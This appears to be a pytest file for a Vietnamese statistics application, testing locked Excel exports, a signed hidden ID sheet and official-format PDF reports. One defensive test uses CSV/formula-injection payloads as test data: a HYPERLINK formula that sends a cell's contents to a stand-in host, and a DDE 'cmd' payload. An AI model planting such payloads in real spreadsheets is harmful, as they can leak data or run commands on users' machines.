"""Downloaded workbooks: locked structure, signed hidden identification, text that stays text; the
consolidated exports to .xlsx and to PDF in the layout of an official report."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from kiemtra.stats import excel, pdf
from kiemtra.stats.grid import forget_frozen_grids
from kiemtra.stats.models import Row
from kiemtra.stats.services import reports
from kiemtra.stats.tests.test_excel_import import Setup, _cell, make_setup
from kiemtra.stats.tests.test_scenario_three_levels import file_up_to_sent

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://ke-xau.example/?q="&A1,"Bấm vào đây")'


@pytest.fixture
def setup() -> Setup:
    return make_setup()


def _sheet(data: bytes, name: str = "Biểu 05"):
    return load_workbook(io.BytesIO(data))[name]


def test_structure_is_locked_and_only_input_cells_are_unlocked(setup: Setup) -> None:
    data = excel.export_reports([setup.report()], filled=False)
    wb = load_workbook(io.BytesIO(data))
    ws = wb["Biểu 05"]
    assert ws.protection.sheet and ws.protection.password  # protected, with a password nobody types
    assert ws.protection.insertRows and ws.protection.deleteRows and ws.protection.insertColumns
    assert wb.security is not None and wb.security.lockStructure
    unlocked = {c.coordinate for row in ws.iter_rows() for c in row if not c.protection.locked}
    # rows 7, 8 are inputs; row 9 is the total; column E is C1 + C2
    assert unlocked == {"C7", "D7", "F7", "G7", "C8", "D8", "F8", "G8"}
    assert ws["A7"].value == "1" and ws["B7"].value == "Khiển trách" and ws["E6"].value == "3"
    assert ws["A1"].value.startswith("BIỂU 05: THI HÀNH KỶ LUẬT ĐẢNG VIÊN")
    assert setup.commune.name in ws["A2"].value and setup.period.name in ws["A3"].value


def test_identification_sheet_is_very_hidden_and_signed(setup: Setup) -> None:
    report = setup.report()
    wb = load_workbook(io.BytesIO(excel.export_reports([report], filled=False)))
    ws = wb[excel.ID_SHEET]
    assert ws.sheet_state == "veryHidden"
    row = {name: ws.cell(3, i).value for i, name in enumerate((*excel.ID_FIELDS, "signature"), 1)}
    assert row["sheet"] == "Biểu 05" and row["form_code"] == "05" and row["unit_code"] == setup.commune.code
    assert row["period_code"] == "2026-H1" and row["report_id"] == str(report.pk) and row["revision"] == "0"
    assert row["version_id"] == str(setup.mixed.pk) and row["version_number"] == "1"
    assert row["signature"] == excel._sign([str(row[f]) for f in excel.ID_FIELDS])


def test_number_formats_and_data_validation_follow_the_cell_types(setup: Setup) -> None:
    ws = _sheet(excel.export_reports([setup.report()], filled=False))
    assert (ws["C7"].number_format, ws["F7"].number_format, ws["G7"].number_format) == ("#,##0", "#,##0.0", "@")
    rules = {dv.type: (dv.operator, dv.formula1, str(dv.sqref)) for dv in ws.data_validations.dataValidation}
    assert rules["whole"][:2] == ("greaterThanOrEqual", "0")
    assert set(rules["whole"][2].split()) == {"C7", "D7", "C8", "D8"}
    assert rules["decimal"][2].split() == ["F7", "F8"]
    assert rules["textLength"][2].split() == ["G7", "G8"]


def test_computed_cells_are_written_as_values_not_formulas(setup: Setup) -> None:
    report = setup.report()
    reports.save_values(
        setup.statistician,
        report,
        {_cell(setup, "1", "1"): "4", _cell(setup, "1", "2"): "5", _cell(setup, "2", "4"): "1,5"},
        expected_revision=0,
    )
    data = excel.export_reports([setup.report()], filled=True)
    ws = _sheet(data)
    assert (ws["E7"].value, ws["E7"].data_type) == (9, "n")
    assert ws["C9"].value == 4 and ws["F8"].value == Decimal("1.5")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    # A blank download carries no figures at all.
    assert _sheet(excel.export_reports([setup.report()], filled=False))["C7"].value is None


def test_text_that_looks_like_a_formula_is_exported_as_text(setup: Setup) -> None:
    """Formula injection: stored text "=HYPERLINK(…)" must not become a live formula in Excel."""
    report = setup.report()
    reports.save_values(
        setup.statistician,
        report,
        {_cell(setup, "1", "5"): INJECTION, _cell(setup, "2", "5"): "@SUM(1+1)*cmd|' /C calc'!A0"},
        expected_revision=0,
    )
    Row.objects.filter(version=setup.mixed, code="2").update(label="-2+3 Cảnh cáo")
    forget_frozen_grids()
    data = excel.export_reports([setup.report()], filled=True)
    ws = _sheet(data)
    for address, text in (("G7", INJECTION), ("G8", "@SUM(1+1)*cmd|' /C calc'!A0"), ("B8", "-2+3 Cảnh cáo")):
        cell = ws[address]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), address
    assert ws["B7"].quotePrefix is False  # ordinary text is left alone
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    # …and the same file uploaded unchanged stores the text exactly as it was.
    preview = excel.parse_upload(data, setup.statistician)
    assert preview.errors == [] and preview.reports[0].differences == []


def test_period_workbook_has_one_sheet_per_form(setup: Setup) -> None:
    pair = [setup.report(setup.chain.version), setup.report()]
    wb = load_workbook(io.BytesIO(excel.export_reports(pair, filled=False)))
    assert wb.sheetnames == ["Biểu 01", "Biểu 05", excel.ID_SHEET]
    assert [wb[excel.ID_SHEET].cell(r, 1).value for r in (3, 4)] == ["Biểu 01", "Biểu 05"]


# --- consolidated exports ----------------------------------------------------------------


def _received_chain(setup: Setup) -> None:
    """Both communes file form 01 and the province receives them."""
    chain, tree = setup.chain, setup.chain.tree
    file_up_to_sent(chain, chain.communes[0], R1_C1=10, R2_C1=4, R1_C2=3)
    reports.receive_report(chain.statistician[tree.province.pk], chain.report(chain.communes[0]))
    file_up_to_sent(chain, chain.communes[1], R1_C1=5, R2_C1=1)
    reports.receive_report(chain.statistician[tree.province.pk], chain.report(chain.communes[1]))
    province = chain.report(tree.province)
    reports.save_values(chain.statistician[tree.province.pk], province, chain.cells(R1_C1=2), expected_revision=0)
    reports.forward_report(chain.statistician[tree.province.pk], province)
    reports.approve_report(chain.approver[tree.province.pk], province)


def test_consolidated_workbook_holds_own_plus_received_figures(setup: Setup) -> None:
    _received_chain(setup)
    report = setup.chain.report(setup.chain.tree.province)
    wb = load_workbook(io.BytesIO(excel.export_consolidated(report)))
    ws = wb["Biểu 01"]
    assert (ws["C7"].value, ws["C8"].value, ws["D7"].value, ws["E9"].value) == (17, 5, 3, 25)
    assert "BÁO CÁO TỔNG HỢP" in ws["A1"].value and "2/2 đơn vị cấp dưới" in ws["A4"].value
    assert all(c.protection.locked for row in ws.iter_rows() for c in row)
    assert wb[excel.ID_SHEET].cell(3, 2).value == excel.KIND_CONSOLIDATED


def _pdf_text(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def test_pdf_is_an_official_report_with_vietnamese_text(setup: Setup) -> None:
    _received_chain(setup)
    report = setup.chain.report(setup.chain.tree.province)
    data = pdf.consolidated_pdf(report, today=dt.date(2026, 2, 5))
    assert data.startswith(b"%PDF")
    text = _pdf_text(data)
    for words in (
        "THÀNH ỦY HÀ NỘI",  # from "UBKT Thành ủy Hà Nội"
        "ỦY BAN KIỂM TRA",
        "ĐẢNG CỘNG SẢN VIỆT NAM",
        "Hà Nội, ngày 05 tháng 02 năm 2026",
        "Biểu 01",
        "KIỂM TRA ĐẢNG VIÊN KHI CÓ DẤU HIỆU VI PHẠM",
        setup.period.name,
        "Được kiểm tra",
        "Cấp ủy viên",
        "NGƯỜI LẬP BIỂU",
        "T/M ỦY BAN KIỂM TRA",
        "Nơi nhận:",
    ):
        assert words in text, words
    assert "17" in text and "25" in text
    # The glyphs come from a font that has them (Debian fonts-dejavu-core), not from a fallback box font.
    resources: list[Any] = [page["/Resources"] for page in PdfReader(io.BytesIO(data)).pages]
    fonts = {str(font.get_object()["/BaseFont"]).split("+")[-1] for res in resources for font in res["/Font"].values()}
    assert fonts and all(f.startswith(("DejaVu", "Liberation", "TimesNewRoman", "Times")) for f in fonts), fonts
    statistician = setup.chain.statistician[setup.chain.tree.province.pk]
    assert statistician.full_name in text


@pytest.mark.parametrize(
    ("kind", "name", "header", "place"),
    [
        ("commune", "UBKT Đảng ủy phường Ba Đình", ("ĐẢNG ỦY PHƯỜNG BA ĐÌNH", "ỦY BAN KIỂM TRA"), "Ba Đình"),
        ("provincial", "UBKT Tỉnh ủy Lào Cai", ("TỈNH ỦY LÀO CAI", "ỦY BAN KIỂM TRA"), "Lào Cai"),
        ("central", "Cơ quan UBKT Trung ương", ("BAN CHẤP HÀNH TRUNG ƯƠNG", "ỦY BAN KIỂM TRA"), "Hà Nội"),
        ("provincial", "UBKT Đảng ủy Khối các cơ quan", ("ĐẢNG ỦY KHỐI CÁC CƠ QUAN", "ỦY BAN KIỂM TRA"), "……………"),
        ("commune", "UBKT Đảng ủy xã Tà Xùa", ("ĐẢNG ỦY XÃ TÀ XÙA", "ỦY BAN KIỂM TRA"), "Tà Xùa"),
        ("provincial", "UBKT Bắc Ninh", ("BAN CHẤP HÀNH ĐẢNG BỘ BẮC NINH", "ỦY BAN KIỂM TRA"), "……………"),
    ],
)
def test_the_commission_header_comes_from_the_unit_name(kind: str, name: str, header: tuple, place: str) -> None:
    from kiemtra.orgs.models import OrgUnit

    unit = OrgUnit(kind=kind, name=name, code="X")
    assert pdf.commission_header(unit) == header
    assert pdf.place_of(unit) == place


def test_numbers_are_written_the_vietnamese_way() -> None:
    assert pdf.vn_number(Decimal("1234567.5"), "decimal", 2) == "1.234.567,50"
    assert pdf.vn_number(Decimal("1234"), "integer", 0) == "1.234"
    assert pdf.vn_number(None, "integer", 0) == ""
